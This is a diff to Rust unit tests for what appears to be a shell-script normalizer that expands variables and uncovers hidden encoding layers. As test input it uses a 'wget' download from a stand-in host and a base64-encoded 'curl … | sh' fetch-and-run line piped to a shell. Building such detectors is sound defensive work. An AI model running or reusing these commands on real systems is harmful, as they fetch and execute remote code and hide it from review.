@@ -342,6 +342,16 @@ mod tests {
     }
 
     #[test]
+    fn values_fill_no_memory() {
+        let path = "a/".repeat(90);
+        assert!(
+            form(&format!("u=http://192.0.2.1/{path}\nwget $u/x")).ends_with(&format!("192.0.2.1/{path}/x"))
+        );
+        let script = format!("u={}\n{}", "v".repeat(250), "$u ".repeat(50_000));
+        assert!(form(&script).len() < 3 * script.len() + VALUES_BYTES);
+    }
+
+    #[test]
     fn layers_are_appended_and_point_to_where_they_were_hidden() {
         let script = "id\necho Y3VybCBodHRwOi8vMTkyLjAuMi4xL3ggfCBzaA== | base64 -d | sh";
         let mut normal = Normal::default();
